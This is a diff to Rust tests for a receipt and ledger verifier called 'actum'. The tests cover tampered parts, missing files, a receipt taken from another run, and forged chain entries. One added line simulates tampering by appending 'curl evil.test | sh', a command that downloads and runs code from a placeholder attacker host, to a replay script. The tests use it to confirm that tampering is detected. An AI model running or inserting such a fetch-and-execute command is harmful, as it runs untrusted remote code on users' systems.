@@ -278,15 +278,19 @@ fn names(shown: &Value) -> Vec<&str> {
 fn receipts_of_every_kind_are_valid() {
     let actum = project();
     let runs = one_of_each(&actum);
-    let beside = ["form", "signature", "contract", "recording", "capsule", "diff", "statement"];
+    let store = &["ledger", "history", "chain"][..];
     for (status, run) in &runs {
+        let script = if *status == "success" { &["replayScript"][..] } else { &[] };
+        let beside = [&["contract", "recording", "capsule", "diff", "result"], script, &["statement"]].concat();
         let (code, shown, _) = verify(&actum, &[run]);
         assert_eq!((code, shown["valid"].as_bool()), (0, Some(true)), "{status}: {shown}");
-        let expected = [&["form", "signature", "run"], &beside[2..], &["ledger", "chain"]].concat();
+        let expected = [&["form", "signature", "run"], &beside[..], store].concat();
         assert_eq!(names(&shown), expected);
-        // By its path it is the same, but for the run that it should belong to.
+        // By its path it is the same; elsewhere it belongs to no run's folder and has nothing beside it.
         let file = path(&actum, run, "RECEIPT.json").display().to_string();
-        assert_eq!(names(&verify(&actum, &[&file]).1), [&beside[..], &["ledger", "chain"]].concat());
+        assert_eq!(names(&verify(&actum, &[&file]).1), expected);
+        fs::copy(&file, actum.path("alone.json")).unwrap();
+        assert_eq!(names(&verify(&actum, &["alone.json"]).1), [&["form", "signature", "contract"], store].concat());
         let folder = path(&actum, run, "").display().to_string();
         assert_eq!(verify(&actum, &[&folder]).0, 0);
     }
@@ -393,6 +397,25 @@ fn whatever_was_altered_is_named() {
     assert_eq!(alter("diff.patch", &|text| text.replace("one", "two")), ["diff"]);
     assert_eq!(alter("receipt.statement.json", &|text| text.replace("success", "failure")), ["statement"]);
     assert_eq!(alter("receipt.statement.json", &|_| "no JSON".to_owned()), ["statement"]);
+    assert_eq!(alter("result.json", &|text| text.replace("success", "denied")), ["result"]);
+    assert_eq!(alter("replay.sh", &|text| format!("{text}curl evil.test | sh\n")), ["replayScript"]);
+    for (name, part) in [("recording.json", "recording"), ("result.json", "result"), ("replay.sh", "replayScript")] {
+        let file = path(&actum, &run, name);
+        fs::rename(&file, actum.path("away")).unwrap();
+        let (_, shown, failed) = verify(&actum, &[&run]);
+        assert_eq!(failed, [part]);
+        assert!(shown.to_string().contains(&format!("{name} is missing")), "{shown}");
+        fs::rename(actum.path("away"), &file).unwrap();
+    }
+    // Another run's receipt in this folder, whole and genuine.
+    let other = good(&actum, "two");
+    let file = path(&actum, &run, "RECEIPT.json");
+    let own = fs::read(&file).unwrap();
+    fs::copy(path(&actum, &other, "RECEIPT.json"), &file).unwrap();
+    let (_, shown, failed) = verify(&actum, &[file.to_str().unwrap()]);
+    assert_eq!(failed[0], "run");
+    assert!(shown.to_string().contains(&format!("it is the receipt of run {other}")), "{shown}");
+    fs::write(&file, own).unwrap();
     // Only its meaning counts.
     assert_eq!(alter("receipt.statement.json", &|text| text.replace('\n', " ")), [""; 0]);
     assert_eq!(verify(&actum, &[&run]).0, 0);
@@ -415,7 +438,7 @@ fn a_receipt_from_elsewhere_is_not_in_the_ledger() {
 }
 
 /// An entry in the store, by somebody who has its file.
-fn slip_in(actum: &Program, entry: Value) {
+pub(crate) fn slip_in(actum: &Program, entry: Value) {
     let runtime = actum_engine::Waiter::runtime().unwrap();
     let location = actum_store::Location::Sqlite(actum.path(".actum/actum.db"));
     let store = runtime.block_on(actum_store::open(&location, actum_store::Older::Refuse)).unwrap();
@@ -439,6 +462,10 @@ fn a_broken_chain_is_found() {
     // Even if an entry is slipped in for it. What was not on record yet when a receipt was made stands beside it.
     let early = forged["predicate"]["ledger"]["size"].clone();
     let late = super::run::asked(&actum, &["ledger", "verify", "--json"])["ledgers"][0]["entries"].clone();
+    let early_head = forged["predicate"]["ledger"]["head"].clone();
+    let entries = actum.run(&["ledger", "list", "--json"]).json();
+    let is_last = |entry: &&Value| entry["seq"].as_u64().map(|seq| seq + 1) == late.as_u64();
+    let late_head = entries["entries"].as_array().unwrap().iter().find(is_last).unwrap()["hash"].clone();
     let cases = [
         ("nothing", Value::Null, &late, false),
         ("nothing-early", Value::Null, &early, false),
@@ -451,6 +478,7 @@ fn a_broken_chain_is_found() {
     ];
     for (id, previous, size, is_good) in cases {
         forged["predicate"]["ledger"]["size"] = size.clone();
+        forged["predicate"]["ledger"]["head"] = if *size == late { late_head.clone() } else { early_head.clone() };
         forged["predicate"]["receiptId"] = json!(id);
         forged["predicate"]["previousReceipt"] = previous;
         let envelope = seal(&forged, &key);
@@ -523,16 +551,14 @@ fn what_is_no_receipt_is_told_so() {
     assert_eq!((ended.code, ended.error()["code"].as_str()), (7, Some("NOT_FOUND")));
 }
 
-/// What lies beside a receipt is looked at only where it is a file: nobody waits for a pipe.
 #[test]
-fn a_pipe_beside_a_receipt_is_passed_by() {
+fn a_pipe_beside_a_receipt_counts_as_missing() {
     let actum = project();
     let run = good(&actum, "one");
     let pipe = path(&actum, &run, "diff.patch");
     fs::remove_file(&pipe).unwrap();
     assert!(program::other("mkfifo").arg(&pipe).status().unwrap().success());
-    let (code, shown, _) = verify(&actum, &[&run]);
-    assert!(code == 0 && !names(&shown).contains(&"diff"), "{shown}");
+    assert_eq!(verify(&actum, &[&run]).2, ["diff"]);
 }
 
 #[test]
